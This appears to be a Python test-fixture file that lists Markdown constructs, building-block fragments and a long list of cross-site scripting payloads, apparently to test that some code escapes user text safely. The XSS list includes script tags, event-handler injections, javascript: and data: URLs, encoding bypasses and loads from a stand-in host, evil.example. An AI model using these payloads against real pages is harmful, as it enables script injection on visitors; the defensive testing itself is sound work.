"""Texts that act in Markdown, HTML, YAML or addresses, where they are let."""

from __future__ import annotations

MARKDOWN = """
# a
#a
###### a ######
a #
C#
a ##
a
===
---
- - -
***
* * *
___
_ _ _
- a
-
+ a
+
* a
*
1. a
1) a
1.
1986. A great year
١. a
> a
>a
> > a
    a
`a`
``a ` b``
```
```python
~~~
~~~ a
~~~~
*a*
**a**
***a***
_a_
__a__
a_b_c
a*b*c
*a
a*
_a
a_
\\*a\\*
\\
a\\
\\\\
\\&
\\[a](b)
[a](b)
[a](b "c")
[a]
[a][b]
[a][]
[a]: b
[a]: http://b "c"
![a](b)
![a][b]
![a]
a!
!
[
]
](
](x) [y
a](javascript:alert(1))
[[a]]
[a](<b>)
[[[a]]](b)
(a)
[TOC]
| a | b |
a | b
|
|---|---|
:-:
:--
--:
-|-
| - |
: a
Title: a
a: b
&amp;
&lt;b&gt;
&copy;
&#60;b&#62;
&#x3c;b&#x3e;
&#0;
&
&a
a & b
AT&T
<b>a</b>
<a
</p>
</div>
a > b
a < b
<!-- a -->
-->
<!--
<?php a ?>
<![CDATA[a]]>
<!DOCTYPE html>
<http://a.b>
<a@b.c>
http://a.b/_c_*d*
www.a.b
a@b.c
~~a~~
~a~
a~
==a==
=
= a
^a^
$a$
{: .a #b onclick=c }
a {: onclick="b" }
{a}
{{ a }}
{% a %}
%a%
--8<-- "a"
!!! note
??? note
:smile:
::: a
*[a]: b
[^1]
[^1]: a
- [ ] a
- [x] a
"a"
'a'
a"
" onclick="b
' onclick='b
a\tb
a  b
''
¿Qué?
-a
--a
+1
=a
~20 people
@a
@import a
\u2028- a
a\u2028# b
a\u0085# b
a\r# b
a\x0c# b
\u00a0- a
\u3000# a
\u200b- a
\ufeff# a
5\u00a0km
a\u00ad
𝕏 😀
שלום *a*
مرحبا <b>
klzzwxh:0000
wzxhzdk:0
\x02klzzwxh:0000\x03
\x02wzxhzdk:0\x03
\x02amp\x03
\x0242\x03
""".strip("\n").split("\n")
"""One construct of Markdown a line, of CommonMark and of the dialects that MkDocs knows."""

XSS = """
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=//evil.example></script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<a href="javascript:alert(1)">a</a>
<a href=" &#106;avascript:alert(1)">a</a>
<details open ontoggle=alert(1)>
<math><mtext></mtext></math>
<style>*{background:url(//evil.example)}</style>
<link rel=stylesheet href=//evil.example>
<base href=//evil.example>
<meta http-equiv=refresh content="0;url=//evil.example">
<form action=//evil.example><input name=a>
<object data="javascript:alert(1)">
<template><b></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<b <script>alert(1)</script>
<<script>alert(1)//<</script>
<img/src="x"/onerror=alert(1)>
</title><script>alert(1)</script>
</div></div><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
"><script>alert(1)</script>
" onmouseover="alert(1)
" autofocus onfocus=alert(1) x="
'><script>alert(1)</script>
`><script>alert(1)</script>`
javascript:alert(1)
[a](javascript:alert(1))
[a](JaVaScRiPt:alert(1))
[a](java\\script:alert(1))
[a](javascript&colon;alert(1))
[a](&#106;avascript:alert(1))
[a](<javascript:alert(1)>)
[a](data:text/html;base64,PHNjcmlwdD4=)
[a](vbscript:a)
[a](http://b" onclick="alert(1))
[a](http://b 'c" onclick="alert(1)')
![a](x" onerror="alert(1))
![a](javascript:alert(1))
[a]: javascript:alert(1)
<javascript:alert(1)>
<http://a" onclick="b>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\\<script>alert(1)\\</script>
`<script>alert(1)</script>`
```<script>alert(1)</script>
    <script>alert(1)</script>
| <script>alert(1)</script> |
# <script>alert(1)</script>
- <script>alert(1)</script>
> <script>alert(1)</script>
*<script>alert(1)</script>*
*a<script>alert(1)</script>b*
**a [b](javascript:alert(1)) c**
<script\u2028>alert(1)</script>
<\u00a0script>alert(1)</script>
<scr\x00ipt>alert(1)</script>
\u202e<script>alert(1)</script>
＜script＞alert(1)＜/script＞
{{constructor.constructor('alert(1)')()}}
${alert(1)}
<xss id=x tabindex=1 onfocus=alert(1)></xss>
<a href="x" style="position:fixed;inset:0">a</a>
<b title="a>b">c</b>
""".strip("\n").split("\n")

SEVERAL_LINES = [
    "a\n\n<script>alert(1)</script>",
    "a\n\n# b",
    "a\n\n    b",
    "a\n===",
    "a\n---",
    "a\n\n```\nb\n```",
    "a\n</div>\n\n<b>c</b>",
    "a | b\n--- | ---\nc | d",
    "\n\n- a\n- b\n",
    "[a]: http://b\n\n[a]",
    "---\ntitle: a\n---\n",
]

ALL = [text for text in [*MARKDOWN, *XSS, *SEVERAL_LINES] if text.strip()]

FRAGMENTS = [
    *"&<>\"'[]()*_`\\|#-+=~!:;.,/?{}^$%@ \n\t",
    *"aB1é٣א漢😀\u00a0\u2028\u200b",
    "  ", "\n\n", "\n    ", "\n- ", "\n> ", "\n1. ", "\n# ", "\n---\n", "\n===\n", "\n```\n",
    "\n| ", "](", "[[", "]]", "![", "](http://", "http://a.b", "https://x.org/", "javascript:",
    "<b>", "</b>", "<script>", "</p>", "<!--", "-->", "<?", "]]>", "&amp;", "&#60;", "&lt", "&",
    "\\*", "\\[", "**", "***", "__", "``", "~~~", "[a](http://b.c)", "[[a]]", "[[event:b|c]]",
    "*a*", "**b**", "_c_", "onload=", "\" x=\"", "word", "Word. ", "1986. ", " - ",
]  # fmt: skip
"""Pieces of which generated texts are made."""
